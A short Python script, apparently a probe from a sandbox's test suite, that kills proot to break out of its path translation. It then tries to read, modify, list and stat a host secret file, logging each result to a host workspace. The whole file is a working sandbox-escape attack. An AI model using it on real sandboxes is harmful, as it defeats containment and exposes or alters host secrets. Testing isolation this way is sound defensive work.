"""Leaves the view: kills proot, which frees its children, and then uses paths of the host.

usage: attack.py HOST_WORKSPACE HOST_SECRET
What it finds is written below HOST_WORKSPACE, which names nothing inside the view: that the files are there shows that
the program ran untranslated.
"""
import os, signal, sys

workspace, secret = sys.argv[1], sys.argv[2]


def attempt(name, action):
    try:
        outcome = action()
    except OSError as error:
        outcome = os.strerror(error.errno)
    with open(f'{workspace}/{name}', 'w') as file:
        file.write(str(outcome))


# proot leads the group; in a PID namespace it is process 1, which nothing inside can kill
os.kill(os.getpgrp() or 1, signal.SIGKILL)
attempt('read', lambda: open(secret).read())
attempt('write', lambda: open(secret, 'a').write('changed'))
attempt('list', lambda: os.listdir(os.path.dirname(secret)))
attempt('stat', lambda: os.stat(secret).st_size)
